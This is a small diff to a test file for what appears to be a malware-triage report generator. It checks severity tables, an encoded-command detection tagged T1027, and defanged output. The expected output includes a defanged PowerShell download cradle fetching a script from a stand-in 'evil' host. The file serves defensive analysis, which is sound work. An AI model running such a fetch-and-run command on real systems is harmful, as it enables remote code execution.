@@ -27,7 +27,8 @@ test('tells the answer, the levels, each subscription, and what was read', () =>
     '### What was read',
   ]);
   expect(text).toContain('| likely malicious | 1 |\n| suspicious | 0 |\n| look at it | 1 |\n');
-  expect(text).toMatch(/^\| `encoded` \| high \| .*`-enc` \| .*`T1027`/m);
+  expect(text).toMatch(/^\| `encoded` \| high \| .*`?-enc`? \| .*`T1027`/m);
+  expect(text).not.toContain('http://');
   expect(text).toContain("DownloadString('hxxp://evil[.]example/a.ps1')\n```\n");
   expect(text).toMatch(/^- \*\*events\*\* 19 Created, `events\.jsonl:1`\n {2}- 20 Created, `events\.jsonl:2`\n/m);
   expect(text).toContain('```powershell\nGet-CimInstance -ComputerName WS01.corp.example');
